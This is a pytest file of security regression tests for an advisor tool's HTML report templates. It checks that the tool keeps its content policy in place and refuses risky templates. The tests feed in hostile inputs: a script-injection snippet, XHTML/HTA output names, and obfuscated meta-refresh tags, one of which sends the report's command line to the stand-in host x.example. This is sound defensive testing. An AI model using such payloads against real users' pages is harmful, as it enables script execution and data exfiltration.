"""Red-team round 71 (security): a custom HTML template's content policy, which a blank
before the doctype moved into the page's body, an XML or HTA file name kept from every
browser, and a <meta http-equiv="refresh"> walked past (each checked in Chromium)."""

from __future__ import annotations

from pathlib import Path

import pytest
from hostile_support import run

from advisor.cli.output import html_page
from advisor.report.render import POLICY_META, refreshes, with_policy

SCRIPT = "<p id=p>safe</p><script>document.getElementById('p').textContent='PWNED'</script>"


def _render(tmp_path: Path, template: str, *extra: str, name: str = "t.html.j2"):
    (tmp_path / name).write_text(template, encoding="utf-8")
    return run("recommend", "--example", "student-starter", "--probes", "none",
               "--template", name, *extra, cwd=tmp_path)  # fmt: skip


def _one_line(result, *parts: str) -> None:
    assert result.code == 2, (result.code, result.out, result.err)
    line = result.err.strip()
    assert "\n" not in line and "Traceback" not in line, result.err
    for part in parts:
        assert part in line, line


@pytest.mark.parametrize("blank", ["\v", "\xa0", "\u3000", "\x1c", "\u2003"])
def test_a_blank_html_reads_as_text_does_not_carry_the_policy_into_the_body(
    tmp_path: Path, blank: str
) -> None:
    """Finding 1: the doctype was found after Python's `\\s`, which takes \\v, NBSP and the
    Unicode spaces; a browser reads them as text, starts the body there and ignores the
    policy the advisor put after the doctype (Chromium: a <meta> policy outside <head>
    is disallowed), so the template's script ran."""
    page = f"{blank}<!doctype html><html><body>{SCRIPT}</body></html>\n"
    assert with_policy(page).startswith(POLICY_META)
    result = _render(tmp_path, page)
    assert result.code == 0, result.err
    assert result.out.startswith(POLICY_META), result.out[:200]
    for html_blank in ("", "\n", " \t\r\n\f", "\ufeff", "\ufeff\n"):  # the page keeps its mode
        page = f"{html_blank}<!DOCTYPE html><p>x</p>"
        assert with_policy(page) == f"{html_blank}<!DOCTYPE html>{POLICY_META}<p>x</p>"


@pytest.mark.parametrize(
    "name", ["r.svg", "r.xhtml", "r.XHT", "r.xml", "r.hta", "r.mht", "r.shtml", "r.php"]
)
def test_a_custom_templates_html_goes_only_to_an_html_page(tmp_path: Path, name: str) -> None:
    """Finding 2: the policy is a <meta> that only an HTML page reads; written to .svg or
    .xhtml it was an element of no namespace ahead of the document, and the template's
    script ran (a `</meta>` at the end even kept the file well-formed); an .hta runs in
    mshta, which reads no such policy, with the user's rights."""
    template = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{SCRIPT}</body></html>\n'
    result = _render(tmp_path, template, "-o", name)
    _one_line(result, "--output", ".html or .htm")
    assert not (tmp_path / name).exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.html.j2"]  # no cache either
    assert html_page("r.html") and html_page("r.HTM") and html_page("r.html.")
    assert not html_page("r.md") and not html_page("r.html::$DATA.svg")
    kept = _render(tmp_path, "<!doctype html><p>{{ 1 + 1 }}</p>\n", "-o", "r.html")
    assert kept.code == 0, kept.err  # an HTML page, as before
    assert (tmp_path / "r.html").read_text().startswith("<!doctype html>" + POLICY_META)
    bundled = run("recommend", "--example", "student-starter", "--probes", "none",
                  "-o", f"b{name}", cwd=tmp_path)  # fmt: skip
    assert bundled.code == 0, bundled.err  # the bundled report runs no script: any name


REFRESHES = [
    '<meta http-equiv="refresh" content="0; url=https://x.example/?d={{ report.source.command'
    '|urlencode }}">',
    "<META HTTP-EQUIV=Refresh CONTENT=0;url=https://x.example>",
    "<meta http-equiv='&#114;efresh' content='0;url=https://x.example'>",
    '<meta http-equiv = " REFRESH " content="0;url=https://x.example">',
    "<meta\nhttp-equiv\n=\nref&#x72;esh content=0;url=https://x.example>",
]


@pytest.mark.parametrize("meta", REFRESHES)
def test_a_refresh_that_leaves_the_report_is_refused(tmp_path: Path, meta: str) -> None:
    """Finding 3: the policy stops fetches, not navigation: a <meta http-equiv="refresh">
    took the opened report to another address at once, the report's command line in its
    query string (Chromium followed it)."""
    result = _render(tmp_path, f"<!doctype html><html><head>{meta}</head><p>r</p></html>\n",
                     "-o", "r.html")  # fmt: skip
    _one_line(result, "t.html.j2", "refresh")
    assert not (tmp_path / "r.html").exists()
    meta = '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
    kept = _render(tmp_path, f"<!doctype html><head>{meta}</head><p>refresh</p>\n")
    assert kept.code == 0, kept.err  # other values, and the word in text, are kept
    assert meta in kept.out
    assert not refreshes("<p>press F5 to refresh</p><meta http-equiv='x-ua-compatible'>")
